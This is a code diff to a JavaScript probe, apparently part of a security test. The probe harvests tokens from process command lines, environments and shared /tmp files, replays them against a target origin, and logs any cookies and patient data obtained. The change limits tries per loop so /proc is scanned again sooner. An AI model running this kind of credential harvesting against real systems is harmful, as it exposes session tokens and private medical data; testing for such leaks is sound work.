@@ -17,6 +17,7 @@ const MAX_FILE_CANDIDATES = 3000;
 const MAX_CANDIDATES = 20000;
 const MAX_ENTRIES_PER_WALK = 5000;
 const MAX_FILE_BYTES = 512 * 1024;
+const TRIES_PER_ROUND = 16;
 
 const report = { cmdlines: 0, environs: 0, environsRefused: 0, filesRead: 0, sawAppWindow: false, candidates: 0, tries: 0, cookies: [], patientData: [] };
 const candidates = new Set();
@@ -145,8 +146,13 @@ while (performance.now() - started < maxMs && !existsSync(stopFile)) {
   readProcesses();
   for (const folder of folders) walk(folder);
   if (origin === undefined && existsSync(originFile)) origin = readFileSync(originFile, 'utf8').trim();
-  if (origin !== undefined) while (queue.length > 0) await attempt(origin, queue.shift());
+  // A few tries a round, so /proc is read again soon: a shared /tmp can queue hundreds of file
+  // tokens, and draining them all first once kept the probe from ever seeing the window open.
+  if (origin !== undefined) for (let i = 0; i < TRIES_PER_ROUND && queue.length > 0; i += 1) await attempt(origin, queue.shift());
   await new Promise((resolve) => setTimeout(resolve, 10));
 }
+// One last look, then everything seen is tried.
+readProcesses();
+if (origin !== undefined) while (queue.length > 0) await attempt(origin, queue.shift());
 report.candidates = candidates.size;
 console.log(JSON.stringify(report));
